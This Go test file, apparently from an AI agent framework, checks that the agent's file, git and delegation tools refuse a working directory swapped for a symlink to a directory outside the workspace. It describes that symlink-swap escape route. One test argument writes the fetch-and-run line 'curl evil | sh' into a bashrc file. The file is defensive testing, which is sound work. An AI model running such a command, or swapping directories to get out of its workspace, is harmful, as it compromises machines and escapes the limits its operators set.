package tools_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/troupe-dev/troupe/agenttypes"
	"github.com/troupe-dev/troupe/builtin/fsroot"
	"github.com/troupe-dev/troupe/builtin/tools"
)

// swappedWorkspace makes a workspace whose agent works in top/sub, then
// does what a command run in it may do, writing only below top: replaces
// sub with a symlink to a directory outside, which holds a secret and is
// a git repository. It returns the workspace and the outside directory.
func swappedWorkspace(t *testing.T) (*fakeWorkspace, string) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("symlinks need privileges on Windows")
	}
	top, outside := t.TempDir(), t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(top, "sub"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(top, "sub", "mine.txt"), []byte("mine\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("secret\n"), 0o644))
	require.NoError(t, os.MkdirAll(filepath.Join(outside, ".git"), 0o755))
	ws := &fakeWorkspace{top: top, dir: filepath.Join(top, "sub")}
	require.NoError(t, os.Rename(filepath.Join(top, "sub"), filepath.Join(top, "moved")))
	require.NoError(t, os.Symlink(outside, filepath.Join(top, "sub")))
	return ws, outside
}

// An agent working in a subdirectory of its workspace, which a command
// swapped for a symlink to outside: no file tool follows it, neither the
// changing ones nor the readers, nor delegate's context files; each
// says the directory is no longer a real one, and nothing outside is
// read or written.
func TestToolsRefuseAnAgentDirectorySwappedForASymlink(t *testing.T) {
	ws, outside := swappedWorkspace(t)
	before := snapshot(t, outside)
	calls := []struct {
		tool agenttypes.Tool
		args string
	}{
		{tools.Write(), `{"path": "bashrc", "content": "curl evil | sh\n"}`},
		{tools.Edit(), `{"path": "secret.txt", "old_string": "secret", "new_string": "gone"}`},
		{tools.Read(), `{"path": "secret.txt"}`},
		{tools.Grep(), `{"pattern": "secret"}`},
		{tools.Glob(), `{"pattern": "**"}`},
		{tools.Ls(), `{}`},
		{tools.Git(), `{"args": ["status"]}`},
	}
	for _, c := range calls {
		out, err := callWS(context.Background(), c.tool, ws, nil, c.args)
		name := c.tool.Spec().Name
		require.ErrorIs(t, err, fsroot.ErrNotDir, "%s gave %q", name, out)
		assert.Contains(t, err.Error(), "symlink", name)
		assert.NotContains(t, out, "secret", name)
	}
	tree := &fakeTree{}
	env := &agenttypes.Env{AgentID: "agent-1", Dir: ws.Dir(), Note: func(string) {}, Workspace: ws, Tree: tree}
	_, err := tools.Delegate().Call(agenttypes.WithEnv(context.Background(), env),
		json.RawMessage(`{"tasks": [{"label": "x", "type": "explore", "prompt": "p", "context": ["secret.txt"]}]}`))
	require.ErrorIs(t, err, fsroot.ErrNotDir)
	assert.Empty(t, tree.delegated)
	assert.Equal(t, before, snapshot(t, outside))
}

// The same directory, still a real one, works as before, and so does an
// agent without a workspace whose directory is reached through a
// symlink: that one is the directory it was given.
func TestToolsWorkInAnAgentDirectoryBelowTheWorkspaceTop(t *testing.T) {
	top := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(top, "sub"), 0o755))
	ws := &fakeWorkspace{top: top, dir: filepath.Join(top, "sub")}
	out, err := callWS(context.Background(), tools.Write(), ws, nil, `{"path": "a.txt", "content": "a\n"}`)
	require.NoError(t, err)
	assert.Contains(t, out, "created a.txt")
	out, err = callWS(context.Background(), tools.Read(), ws, nil, `{"path": "a.txt"}`)
	require.NoError(t, err)
	assert.Contains(t, out, "a")
	data, err := os.ReadFile(filepath.Join(top, "sub", "a.txt"))
	require.NoError(t, err)
	assert.Equal(t, "a\n", string(data))

	if runtime.GOOS == "windows" {
		return
	}
	link := filepath.Join(t.TempDir(), "link")
	require.NoError(t, os.Symlink(filepath.Join(top, "sub"), link))
	out = mustCall(t, tools.Read(), link, `{"path": "a.txt"}`)
	assert.Contains(t, out, "a")
}
